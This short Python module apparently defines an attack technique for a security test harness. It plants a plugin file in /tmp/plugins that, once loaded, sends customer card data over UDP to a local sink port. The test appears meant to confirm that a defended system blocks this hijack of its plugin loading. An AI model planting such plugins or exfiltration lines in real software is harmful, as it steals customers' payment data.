"""Writes a plugin into the folder in /tmp from which the function loads plugins."""

from __future__ import annotations

from dayfly.lab.gauntlet.evidence import Cards
from dayfly.lab.gauntlet.technique import Technique

PLANT = """
os.makedirs("/tmp/plugins", exist_ok=True)
with open("/tmp/plugins/helper.py", "w") as file:
    file.write("import socket; socket.socket(2, 2).sendto(card.encode(), ('127.0.0.1', %d))" % event["sink"])
"""

TECHNIQUE = Technique(
    level="L2",
    attack=("T1546", "T1574"),
    family="P2",
    must_fail_to="copy a later customer's card",
    plant=PLANT,
    evidence=Cards(),
    handler="plugins.handler",
    finding="residue.file",
)
